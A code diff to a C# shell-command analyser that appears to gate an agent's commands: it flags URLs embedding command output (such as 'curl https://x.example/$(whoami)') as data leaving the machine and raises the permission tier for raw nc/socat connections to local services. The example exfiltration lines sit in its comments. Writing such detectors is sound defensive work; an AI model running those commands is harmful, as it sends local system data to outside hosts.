@@ -124,10 +124,7 @@ internal sealed partial class ShellAnalysisRun
         var proxyHost = proxy is not { } px ? "" : Hosts.Of(px.Text.Contains("://", StringComparison.Ordinal) ? px.Text : "http://" + px.Text);
         bool viaProxy = proxyHost.Length > 0 && !Hosts.IsLocal(proxyHost);
         if (viaProxy && c.Ctx.Referenced is { } named && named.Any(CredentialPaths.IsSecretName)) { secretArgs = true; host = proxyHost; }
-        // `curl https://x.example/p?h=$(hostname)`: a command's output in the URL is local data sent with the request.
-        if (!Hosts.IsLocal(host) && host.Length > 0 && inv.Positionals.Any(p => p.Dynamic && p.Text.Contains(ShellArg.Unknown) && p.Text.Contains('?', StringComparison.Ordinal))
-            && (c.Ctx.Referenced is null || c.Ctx.Referenced.Count == 0))
-            sends = true;
+        if (UrlCarriesCommandOutput(inv.Positionals, host, c.Ctx)) sends = true;
         bool secretPayload = (fromStdin && StdinIsSecret(c.Ctx)) || files.Exists(f => CredentialIn(f) is not null) || secretArgs || ArgsCarrySecret(inv)
             || inv.OptionValues("--variable").Any(v => v.Text.StartsWith('%') && CredentialPaths.IsSecretName(v.Text[1..]));
         if (sends || secretPayload)
@@ -163,6 +160,19 @@ internal sealed partial class ShellAnalysisRun
         return toFile ? StreamSource.None : new StreamSource(StreamKind.Network);
     }
 
+    /// <summary>
+    /// <c>curl https://x.example/$(whoami)</c>, <c>wget "https://$(hostname).x.example/"</c>: a command's output anywhere in
+    /// a URL to another machine (host, path or query) is local data sent with the request, whatever the method.
+    /// Only when no variable is referenced, so the unknown text is known to be a command's output.
+    /// </summary>
+    private static bool UrlCarriesCommandOutput(IEnumerable<ShellArg> words, string host, CallContext ctx)
+    {
+        if (Hosts.IsLocal(host) || host.Length == 0 || ctx.Referenced is { Count: > 0 }) return false;
+        foreach (var word in words)
+            if (word.Dynamic && word.Text.Contains(ShellArg.Unknown)) return true;
+        return false;
+    }
+
     /// <summary>The file name a download takes from its URL (the last path segment), or unknown when the URL has none.</summary>
     private static string DownloadName(string url)
     {
@@ -188,7 +198,8 @@ internal sealed partial class ShellAnalysisRun
         op.Tags.Add("network");
         var method = inv.OptionValue("--method")?.Text.ToUpperInvariant();
         var postFile = inv.OptionValue("--post-file|--body-file");
-        bool sends = inv.OptionValue("--post-data|--body-data") is not null || postFile is not null || method is "POST" or "PUT" or "PATCH" or "DELETE";
+        bool sends = inv.OptionValue("--post-data|--body-data") is not null || postFile is not null || method is "POST" or "PUT" or "PATCH" or "DELETE"
+            || UrlCarriesCommandOutput(inv.Positionals, host, c.Ctx);
         if (sends)
         {
             op.Suppressed = true;
@@ -236,7 +247,8 @@ internal sealed partial class ShellAnalysisRun
         op.Urls = urls;
         if (urls is not null) EmitMetadataReads(op.Program, urls, c.Ctx);
         var items = ops.Skip(urlIndex + 1).ToList();
-        bool data = items.Exists(i => i.Contains('=', StringComparison.Ordinal) || i.Contains('@', StringComparison.Ordinal));
+        bool data = items.Exists(i => i.Contains('=', StringComparison.Ordinal) || i.Contains('@', StringComparison.Ordinal))
+            || UrlCarriesCommandOutput(c.Inv.Positionals.Skip(urlIndex).Take(1), host, c.Ctx);
         if (data || method is "POST" or "PUT" or "PATCH" or "DELETE")
         {
             op.Suppressed = true;
@@ -285,8 +297,29 @@ internal sealed partial class ShellAnalysisRun
         {
             op.Tags.Add("local");
             op.Shared = false;
+            // A data store on this machine is still shared state: through its own protocol any command reaches it.
+            if (!c.Inv.HasAnyFlag("-z") && RawSocketPort(hosts) is { } port && Hosts.ServiceOnPort(port) is { } service)
+            {
+                op.MinTier = Tier.WriteWithConfirmation;
+                op.Reason = $"speaks {service}'s own protocol on port {port} directly, where any command can change or delete its data";
+            }
         }
         return new StreamSource(StreamKind.Network);
+    }
+
+    /// <summary>The port a raw connection names: nc/telnet's second operand, or socat's <c>TCP:HOST:PORT</c> address.</summary>
+    private static string? RawSocketPort(List<string> operands)
+    {
+        if (operands.Count > 1 && operands[1].Length > 0 && char.IsAsciiDigit(operands[1][0])) return operands[1];
+        foreach (var operand in operands)
+        {
+            if (!operand.StartsWith("TCP", StringComparison.OrdinalIgnoreCase)) continue;
+            int colon = operand.LastIndexOf(':');
+            var port = operand[(colon + 1)..];
+            int comma = port.IndexOf(',', StringComparison.Ordinal);
+            return comma < 0 ? port : port[..comma];
+        }
+        return null;
     }
 
     internal StreamSource? RemoteCopy(SemanticsCall c)
